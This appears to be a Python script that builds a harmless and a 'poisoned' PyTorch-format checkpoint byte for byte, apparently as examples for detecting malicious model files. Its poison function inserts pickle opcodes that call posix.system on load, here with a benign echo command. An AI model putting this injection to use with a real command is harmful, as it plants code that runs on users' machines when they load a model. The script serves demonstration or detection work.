#!/usr/bin/env python3
"""Writes the two example checkpoints, harmless/model.pt and poisoned/model.pt, beside this file.

Only the standard library is needed: the files are laid out byte for byte as `torch.save` lays them out, but torch has
no part in it. Running the script again writes the same bytes; a test holds it to that.

    python3 examples/make.py [FOLDER]
"""

import collections
import hashlib
import io
import pickle
import struct
import sys
import types
import zlib
from pathlib import Path

# What the poisoned checkpoint runs when it is loaded. It only prints; the point is that it could be anything.
COMMAND = "echo this would have run on load"


# --- The state dict -------------------------------------------------------------------------------------------------
# torch is not needed to *name* its classes: a pickle stores the module and the name of a class, and Python looks only
# whether they can be imported. So two modules of that name stand in for the real ones while the pickle is written.

torch = types.ModuleType("torch")
torch._utils = types.ModuleType("torch._utils")


class FloatStorage:
    """Stands in for torch.FloatStorage."""


def _rebuild_tensor_v2(*arguments):
    """Stands in for torch._utils._rebuild_tensor_v2."""


FloatStorage.__module__, FloatStorage.__qualname__ = "torch", "FloatStorage"
_rebuild_tensor_v2.__module__ = "torch._utils"
torch.FloatStorage = FloatStorage
torch._utils._rebuild_tensor_v2 = _rebuild_tensor_v2


class Storage:
    """The numbers of one tensor. They do not go into the pickle but into a member of their own."""

    def __init__(self, key, values):
        self.key = key
        self.values = values

    def bytes(self):
        return struct.pack(f"<{len(self.values)}f", *self.values)


class Tensor:
    """A contiguous tensor, pickled as torch.Tensor.__reduce_ex__ does it."""

    def __init__(self, storage, shape):
        self.storage = storage
        self.shape = shape

    def __reduce__(self):
        strides = [1]
        for length in reversed(self.shape[1:]):
            strides.insert(0, strides[0] * length)
        backward_hooks = collections.OrderedDict()
        return _rebuild_tensor_v2, (self.storage, 0, self.shape, tuple(strides), False, backward_hooks)


class CheckpointPickler(pickle.Pickler):
    """Writes a storage as the identifier by which torch.load finds its member again."""

    def persistent_id(self, thing):
        if isinstance(thing, Storage):
            return "storage", FloatStorage, thing.key, "cpu", len(thing.values)
        return None


def state_dict():
    """The parameters of Sequential(Linear(4, 8), ReLU(), Linear(8, 2)), with numbers that need no random generator."""
    shapes = {"0.weight": (8, 4), "0.bias": (8,), "2.weight": (2, 8), "2.bias": (2,)}
    tensors = collections.OrderedDict()
    for index, (name, shape) in enumerate(shapes.items()):
        count = shape[0] * (shape[1] if len(shape) > 1 else 1)
        values = [((7 * step + index) % 31 - 15) / 32 for step in range(count)]
        tensors[name] = Tensor(Storage(str(index), values), shape)
    # Module.state_dict() notes the version of each module in an attribute, which the pickle sets with BUILD.
    tensors._metadata = collections.OrderedDict((module, {"version": 1}) for module in ("", "0", "1", "2"))
    return tensors


def pickled(tensors):
    sys.modules["torch"], sys.modules["torch._utils"] = torch, torch._utils
    try:
        buffer = io.BytesIO()
        CheckpointPickler(buffer, protocol=2).dump(tensors)
        return buffer.getvalue()
    finally:
        del sys.modules["torch"], sys.modules["torch._utils"]


def poison(data):
    """Calls os.system in front of the state dict, as malware found in the wild does it: GLOBAL, its argument, REDUCE.
    The result is dropped, so that loading goes on and gives the very same model."""
    argument = COMMAND.encode()
    call = b"cposix\nsystem\n" + b"X" + struct.pack("<I", len(argument)) + argument + b"\x85R0"
    protocol = 2  # the bytes of the PROTO opcode, which stays first
    return data[:protocol] + call + data[protocol:]


# --- The archive ----------------------------------------------------------------------------------------------------
# torch.save writes its zip with miniz: members are stored, dates and versions are zero, CRC and sizes follow the body
# in a descriptor, and an extra field "FB" pads every local header so that each body begins at a multiple of 64 bytes
# and can be mapped into memory. The end is written twice, in its zip64 and in its old form.

UTF8, DESCRIPTOR = 1 << 11, 1 << 3


def local_entry(offset, name, body):
    name_bytes = name.encode()
    padding = -(offset + 30 + len(name_bytes) + 4) % 64
    extra = b"FB" + struct.pack("<H", padding) + b"Z" * padding
    header = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 0, UTF8 | DESCRIPTOR, 0, 0, 0, 0, 0, 0, len(name_bytes), len(extra)
    )
    descriptor = struct.pack("<4s3I", b"PK\7\x08", zlib.crc32(body), len(body), len(body))
    return header + name_bytes + extra + body + descriptor


def central_entry(offset, name, body):
    header = struct.pack(
        "<4s6H3I5H2I",
        *(b"PK\1\2", 0, 0, UTF8 | DESCRIPTOR, 0, 0, 0),
        *(zlib.crc32(body), len(body), len(body)),
        *(len(name.encode()), 0, 0, 0, 0, 0, offset),
    )
    return header + name.encode()


def archive(members):
    data, central = b"", b""
    for name, body in members:
        central += central_entry(len(data), name, body)
        data += local_entry(len(data), name, body)
    start, size, count = len(data), len(central), len(members)
    zip64_end = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 0x031E, 45, 0, 0, count, count, size, start)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, start + size, 1)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, size, start, 0)
    return data + central + zip64_end + locator + end


def checkpoint(data, tensors):
    """The members of a file `model.pt`, in the order of torch.save; the folder is the file's stem."""
    storages = [tensor.storage for tensor in tensors.values()]
    members = [("data.pkl", data), (".format_version", b"1"), (".storage_alignment", b"64"), ("byteorder", b"little")]
    members += [(f"data/{storage.key}", storage.bytes()) for storage in storages]
    members += [("version", b"3\n")]
    # torch writes forty digits: a hash of the names and one of the contents.
    digest = hashlib.sha256(b"".join(name.encode() + body for name, body in members)).hexdigest()
    members += [(".data/serialization_id", str(int(digest, 16))[:40].encode())]
    return archive([(f"model/{name}", body) for name, body in members])


def main():
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent)
    tensors = state_dict()
    data = pickled(tensors)
    for name, content in {"harmless": data, "poisoned": poison(data)}.items():
        path = folder / name / "model.pt"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(checkpoint(content, tensors))
        print(f"{path}: {path.stat().st_size} bytes")


if __name__ == "__main__":
    main()
